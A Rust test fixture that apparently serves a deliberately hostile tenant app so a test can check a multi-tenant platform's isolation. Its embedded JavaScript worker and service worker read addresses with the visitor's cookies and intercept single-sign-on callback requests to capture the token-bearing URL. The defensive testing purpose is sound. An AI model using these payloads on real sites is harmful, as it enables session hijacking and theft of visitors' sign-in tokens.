//! A hostile app of a tenant: its page lets the test run the attacks, its service worker takes what signs a visitor in.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;

const PAGE: &str = "<!doctype html><title>Hostile</title><h1>Hostile app</h1>";

/// Reads an address with the visitor's cookies.
const WORKER: &str = "
onmessage = (event) => fetch(event.data, { credentials: 'include' })
  .then((response) => response.text())
  .then((text) => postMessage({ text }), (error) => postMessage({ error: error.name }));
";

/// Reads an address with the visitor's cookies, and keeps every visit with a token for itself.
const SERVICE_WORKER: &str = "
oninstall = () => skipWaiting();
onactivate = (event) => event.waitUntil(clients.claim());
onmessage = (event) => fetch(event.data, { credentials: 'include' })
  .then((response) => response.text())
  .then((text) => event.ports[0].postMessage({ text }), (error) => event.ports[0].postMessage({ error: error.name }));
onfetch = (event) => {
  if (new URL(event.request.url).pathname === '/.cial/sso') {
    const page = new Response('Taken: ' + event.request.url, { headers: { 'content-type': 'text/html' } });
    event.respondWith(page);
  }
};
";

fn main() {
    let port = std::env::var("PORT").unwrap();
    let listener = TcpListener::bind(format!("127.0.0.1:{port}")).unwrap();
    for stream in listener.incoming() {
        let Ok(mut stream) = stream else { continue };
        let (mut head, mut byte) = (Vec::new(), [0]);
        while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).is_ok_and(|read| read == 1) {
            head.push(byte[0]);
        }
        let head = String::from_utf8_lossy(&head);
        let (kind, body) = match head.split(' ').nth(1) {
            // A probe of the port sends nothing.
            None => continue,
            Some("/worker.js") => ("text/javascript", WORKER),
            Some("/service-worker.js") => ("text/javascript", SERVICE_WORKER),
            Some(_) => ("text/html", PAGE),
        };
        let length = body.len();
        let head = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n"
        );
        let _ = stream.write_all((head + body).as_bytes());
    }
}
